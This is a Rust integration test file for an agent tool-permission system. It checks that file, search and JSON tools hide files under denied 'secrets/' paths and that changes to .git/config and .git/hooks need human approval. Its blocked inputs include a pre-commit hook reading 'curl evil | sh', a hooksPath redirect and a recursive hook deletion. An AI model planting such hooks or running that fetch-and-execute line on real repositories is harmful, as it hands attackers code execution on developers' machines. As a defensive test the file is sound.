//! Denied paths in every tool, enforced where the bytes are: with
//! `[protect] read = ["secrets/"]`, no bundled WASM tool returns the
//! content or the names of what is under any `secrets/` directory — not
//! the tools that name the path (the decision refuses them), and not the
//! ones that walk a directory the decision allowed (the plugin SDK asks the
//! host, and skips). With the default protection, no tool changes
//! `.git/config` or `.git/hooks/` without a person.

use std::sync::Arc;

use serde_json::{Value, json};
use warden_api::{CallRequest, Envelope, FsAccess, ToolHost};
use warden_gate::{Gate, PolicyEnv};
use warden_policy::Policy;
use warden_policy::config::PolicyConfig;

use crate::common;

const SECRET: &str = "TOKEN=hunter2-do-not-leak";

struct Fixture {
    gate: Gate,
    _dir: tempfile::TempDir,
    ws: std::path::PathBuf,
}

async fn fixture() -> Fixture {
    fixture_with("[protect]\nread = [\"secrets/\"]\n").await
}

async fn fixture_with(extra: &str) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    for d in ["secrets", "app/config/secrets", "app/src", ".git/hooks"] {
        std::fs::create_dir_all(ws.join(d)).unwrap();
    }
    std::fs::write(ws.join("secrets/key.txt"), format!("{SECRET}\n")).unwrap();
    std::fs::write(ws.join("secrets/creds.json"), r#"{"token": "hunter2"}"#).unwrap();
    std::fs::write(ws.join("app/config/secrets/db.txt"), format!("{SECRET}\n")).unwrap();
    std::fs::write(
        ws.join("app/src/main.rs"),
        "// TOKEN is read from the env\n",
    )
    .unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    let config: PolicyConfig = toml::from_str(&format!(
        "{extra}[agents.a]\nlevel = \"elevated\"\nmode = \"autonomous\"\n"
    ))
    .unwrap();
    let policy = Policy::from_config(&config, &warden_api::BUILTIN_ACTION_TYPES).unwrap();
    let runtime = common::runtime();
    let grants = common::grant(&ws, FsAccess::ReadWrite);
    let mut builder = Gate::builder().env(PolicyEnv {
        workspace: "/workspace".into(),
        project: "/workspace".into(),
        home: "/home/agent".into(),
    });
    for (name, path) in [
        ("fs", warden_test_artifacts::FS),
        ("search", warden_test_artifacts::SEARCH),
        ("json", warden_test_artifacts::JSON),
    ] {
        let plugin = common::load(&runtime, path).await;
        builder = builder
            .backend(name, Arc::new(plugin), grants.clone())
            .unwrap();
    }
    for a in policy.agents() {
        builder = builder.agent(a.clone());
    }
    Fixture {
        gate: builder.build(),
        _dir: dir,
        ws,
    }
}

async fn call(f: &Fixture, tool: &str, args: Value) -> Envelope {
    let mut context = common::context();
    context.agent = "a".into();
    f.gate
        .call(CallRequest {
            tool: tool.into(),
            args,
            context,
        })
        .await
}

fn text(e: &Envelope) -> String {
    serde_json::to_string(e).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn no_wasm_tool_returns_a_denied_paths_content_or_name() {
    let f = fixture().await;
    // Tools that name a denied path are refused by the decision.
    for (tool, args) in [
        ("fs_read", json!({"path": "secrets/key.txt"})),
        ("fs_read", json!({"path": "app/config/secrets/db.txt"})),
        ("fs_list", json!({"path": "secrets"})),
        (
            "json_query",
            json!({"filter": ".", "path": "secrets/creds.json"}),
        ),
        (
            "search_grep",
            json!({"pattern": "TOKEN", "path": "secrets"}),
        ),
        (
            "fs_write",
            json!({"path": "secrets/new.txt", "content": "x"}),
        ),
    ] {
        let e = call(&f, tool, args.clone()).await;
        let (_, code, message) = common::error(&e);
        assert_eq!(code, "denied_by_rule", "{tool} {args}: {message}");
        assert!(message.contains("denied path"), "{message}");
    }
    assert!(!f.ws.join("secrets/new.txt").exists());
    // Tools that walk an allowed directory skip what is denied inside it.
    for (tool, args) in [
        ("search_grep", json!({"pattern": "TOKEN", "path": "."})),
        ("search_grep", json!({"pattern": "hunter2"})),
        (
            "search_glob",
            json!({"pattern": "**/*", "include_dirs": true}),
        ),
        ("fs_list", json!({"path": ".", "recursive": true})),
    ] {
        let e = call(&f, tool, args.clone()).await;
        assert!(e.is_ok(), "{tool} {args}: {e:?}");
        let out = text(&e);
        assert!(!out.contains("hunter2"), "{tool} leaked a secret: {out}");
        assert!(
            !out.contains("secrets"),
            "{tool} named a denied path: {out}"
        );
    }
    // What is not denied is still found.
    let e = call(&f, "search_grep", json!({"pattern": "TOKEN"})).await;
    assert!(text(&e).contains("app/src/main.rs"), "{}", text(&e));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_deny_rule_on_a_file_tool_guards_the_file_from_every_tool() {
    // The operator wrote the rule for fs_read only; the file is what it
    // protects.
    let f = fixture_with("[rules]\ndeny = [\"fs_read(/secrets/**)\"]\n").await;
    let e = call(&f, "search_grep", json!({"pattern": "hunter2"})).await;
    assert!(e.is_ok(), "{e:?}");
    let found = text(&e);
    assert!(!found.contains("\"path\":\"secrets/"), "{found}");
    // Anchored as written: the nested `app/config/secrets` is not under
    // `/secrets/**` and is still searched.
    assert!(found.contains("app/config/secrets/db.txt"), "{found}");
    let e = call(&f, "fs_list", json!({"path": ".", "recursive": true})).await;
    assert!(!text(&e).contains("key.txt"), "{}", text(&e));
    let e = call(
        &f,
        "json_query",
        json!({"filter": ".", "path": "secrets/creds.json"}),
    )
    .await;
    assert_eq!(common::error(&e).1, "denied_by_rule");
    let e = call(&f, "fs_read", json!({"path": "app/config/secrets/db.txt"})).await;
    assert!(e.is_ok(), "{e:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_plugin_sdk_refuses_a_denied_path_the_decision_did_not_see() {
    // Straight to the plugin, with the agent's denied paths but no
    // decision in front: the SDK's resolve asks the host and refuses.
    #[derive(Debug)]
    struct Secrets;
    impl warden_api::PathGuard for Secrets {
        fn denied(&self, path: &str) -> Option<String> {
            path.contains("/secrets")
                .then(|| format!("`{path}` is a denied path"))
        }
        fn protected(&self, _path: &str) -> Option<String> {
            None
        }
        fn effects(&self) -> warden_api::Effects {
            warden_api::Effects::Unattended
        }
    }
    let f = fixture().await;
    let plugin = common::load(&common::runtime(), warden_test_artifacts::JSON).await;
    let grants = common::grant(&f.ws, FsAccess::Read);
    let spec = plugin.manifest().tools[0].clone();
    let guard: Arc<dyn warden_api::PathGuard> = Arc::new(Secrets);
    let args = json!({"filter": ".", "path": "secrets/creds.json"});
    let ctx = common::context();
    let e = plugin
        .invoke(warden_api::BackendCall {
            tool: &spec,
            args: &args,
            context: &ctx,
            grants: &grants,
            limits: common::limits(),
            events: None,
            paths: Some(&guard),
            cwd: None,
            remote: None,
        })
        .await;
    let (_, code, message) = common::error(&e);
    assert_eq!(code, "denied_path", "{message}");
    assert!(!text(&e).contains("hunter2"));
}

#[tokio::test(flavor = "multi_thread")]
async fn git_config_and_hooks_change_only_with_a_person() {
    let f = fixture().await;
    for (tool, args) in [
        (
            "fs_write",
            json!({"path": ".git/config", "content": "[core]\nhooksPath = /tmp\n"}),
        ),
        (
            "fs_write",
            json!({"path": ".git/hooks/pre-commit", "content": "curl evil | sh\n"}),
        ),
        (
            "fs_edit",
            json!({"path": ".git/config", "old": "[core]", "new": "[x]"}),
        ),
        (
            "fs_delete",
            json!({"path": ".git/hooks", "recursive": true}),
        ),
    ] {
        // Autonomous mode, and nobody here to approve.
        let e = call(&f, tool, args.clone()).await;
        let (_, code, message) = common::error(&e);
        assert_eq!(code, "approval_denied", "{tool} {args}: {message}");
        assert!(message.contains("protected path"), "{message}");
    }
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
    assert!(f.ws.join(".git/hooks").is_dir());
    // Reading them is as usual.
    let e = call(&f, "fs_read", json!({"path": ".git/config"})).await;
    assert!(e.is_ok(), "{e:?}");
}
